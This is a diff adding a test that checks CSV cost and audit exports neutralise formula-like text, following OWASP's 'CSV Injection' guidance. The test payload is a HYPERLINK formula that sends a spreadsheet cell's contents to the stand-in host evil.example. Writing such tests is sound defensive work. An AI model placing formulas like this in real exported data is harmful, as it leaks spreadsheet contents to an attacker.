@@ -129,6 +129,19 @@ def test_csv_export_holds_the_rows_and_the_totals_of_the_page():
     assert {"step", "label", "run"} <= set(steps[0])
 
 
+def test_csv_exports_write_formula_like_text_as_text():
+    # OWASP "CSV Injection": a graph named like a formula must not run in the reader's spreadsheet.
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    run_local(llm_spec(evil, reply="hi"), {})
+    client = client_for(admin())
+    rows = {r["label"]: r for r in csv.DictReader(io.StringIO(client.get("/api/v1/costs/export/?group_by=graph").content.decode()))}
+    assert "'" + evil in rows and evil not in rows
+    assert all(not r["label"].startswith(("=", "+", "-", "@")) for r in rows.values())
+    audit = client.get("/api/v1/audit/export/?kind=csv")
+    lines = list(csv.reader(io.StringIO(b"".join(audit.streaming_content).decode())))
+    assert lines and all(not cell.startswith(("=", "+", "@")) for line in lines for cell in line)
+
+
 def test_date_range_filters_the_spend_by_day():
     make_spend()
     client = client_for(admin())
